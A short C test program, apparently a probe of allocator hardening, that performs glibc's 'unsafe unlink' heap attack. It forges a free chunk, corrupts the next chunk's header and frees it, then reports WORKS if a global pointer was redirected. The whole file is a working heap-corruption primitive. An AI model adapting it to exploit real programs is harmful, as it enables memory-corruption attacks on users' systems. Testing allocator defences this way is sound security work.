#include "hostile.h"

int main(void)
{
    /* glibc's unsafe unlink: a forged free block before one whose header was overwritten. */
    static uintptr_t *pointer;
    pointer = hide(malloc(0x420));
    uintptr_t *next = hide(malloc(0x420));
    uintptr_t *last = hide(malloc(0x420));
    uintptr_t *before = pointer;
    pointer[1] = 0x420;
    pointer[2] = (uintptr_t)(&pointer - 3);
    pointer[3] = (uintptr_t)(&pointer - 2);
    ((volatile uintptr_t *)hide(next))[-2] = 0x420;
    ((volatile uintptr_t *)hide(next))[-1] &= ~(uintptr_t)1;
    free(next);
    bool moved = pointer != before;
    free(last);
    return moved ? WORKS : HARMLESS;
}
